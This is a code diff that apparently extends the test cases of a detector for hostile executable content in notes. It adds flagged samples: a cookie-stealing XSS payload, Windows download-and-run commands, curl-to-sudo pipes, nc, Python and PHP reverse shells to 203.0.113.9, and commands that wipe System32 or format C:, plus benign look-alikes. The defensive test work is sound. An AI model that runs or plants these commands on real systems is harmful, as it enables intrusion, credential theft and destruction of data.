@@ -67,7 +67,7 @@ EXECUTABLE = [
     ("executable:destructive-shell", 'rm -rf "${HOME:?}"/*'),
     ("executable:dataviewjs", f"{FENCE}js-engine\nreturn engine.markdown.create('x')\n{FENCE}"),
     ("executable:html-script", "<script>fetch('/x')</script>"),
-    ("executable:html-script", '<img src=x onerror="fetch(\'https://x.example/?\'+document.cookie)">'),
+    ("executable:html-script", "<img src=x onerror=\"fetch('https://x.example/?'+document.cookie)\">"),
     ("executable:html-script", '<iframe src="data:text/html;base64,PHNjcmlwdD4=">'),
     ("executable:html-script", "<img/src=x/onerror=alert(1)>"),
     ("executable:remote-script", "curl https://get.example/i | /usr/bin/env bash"),
@@ -89,6 +89,24 @@ EXECUTABLE = [
     ("executable:javascript-url", '<a href="j&#97;vascript:alert(1)">x</a>'),
     ("executable:javascript-url", '<a href="&#x6A;&#x61;&#x76;&#x61;script:fetch(1)">x</a>'),
     ("executable:javascript-url", '<a href="java&#9;script:alert(1)">x</a>'),
+    ("executable:javascript-url", '<a href="JaVaScRiPt&#58;alert(document.domain)">open</a>'),
+    # Windows tools that fetch or decode code and run it, sudo with options, one-line reverse shells
+    ("executable:remote-script", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
+    ("executable:remote-script", "certutil -urlcache -split -f http://203.0.113.9/p.exe %TEMP%\\p.exe"),
+    ("executable:remote-script", "bitsadmin /transfer j http://203.0.113.9/p.exe %TEMP%\\p.exe & start p.exe"),
+    ("executable:remote-script", "mshta http://203.0.113.9/p.hta"),
+    ("executable:remote-script", "regsvr32 /s /n /u /i:http://203.0.113.9/f.sct scrobj.dll"),
+    ("executable:remote-script", "curl -s https://x.example/s.py | sudo -E python3 -"),
+    ("executable:remote-script", "curl -s https://x.example/s.sh | sudo -u root bash"),
+    ("executable:reverse-shell", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"),
+    (
+        "executable:reverse-shell",
+        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));'
+        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
+    ),
+    ("executable:reverse-shell", 'php -r \'$sock=fsockopen("203.0.113.9",4242);exec("/bin/sh -i <&3 >&3 2>&3");\''),
+    ("executable:destructive-shell", f"{FENCE}powershell\nRemove-Item -Recurse -Force C:\\Windows\\System32\n{FENCE}"),
+    ("executable:destructive-shell", f"{FENCE}powershell\nFormat-Volume -DriveLetter C -Force\n{FENCE}"),
 ]
 
 
@@ -126,6 +144,10 @@ def test_executable_finding_points_at_the_command_line() -> None:
         f"{FENCE}console\n$ ls\nrm-notes.txt\n{FENCE}",
         "[docs](https://example.com/javascript:guide)",
         "Notes on XSS: the `javascript:` scheme &amp; script tags are filtered by the sanitizer.",
+        "certutil -hashfile setup.exe SHA256",
+        "curl -s https://api.example/x | sudo tee /etc/app/sh.conf",
+        "powershell -ExecutionPolicy Bypass -File .\\build.ps1",
+        'python3 -c "import socket; print(socket.gethostname())"',
         f"{FENCE}powershell\nRemove-Item -Path C:\\Windows\\Temp\\build -Recurse -Force\n{FENCE}",
         f"{FENCE}powershell\nRemove-Item .\\build -Recurse -Force\n{FENCE}",
         "A Dataview query: `= this.file.name`",
@@ -141,7 +163,7 @@ def test_executable_finding_points_at_the_command_line() -> None:
         "curl -s https://api.example/x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
         "<button onClick={handleSave}>Save</button> and <user-card online=true>",
         "Format D: as exFAT before copying the files.",
-        f"{FENCE}sh\nrm -rf ./build/. \"\"\nchmod 755 -R ./bin\ndel notes.txt\n{FENCE}",
+        f'{FENCE}sh\nrm -rf ./build/. ""\nchmod 755 -R ./bin\ndel notes.txt\n{FENCE}',
     ],
 )
 def test_commands_that_are_mentioned_or_harmless_pass(text: str) -> None:
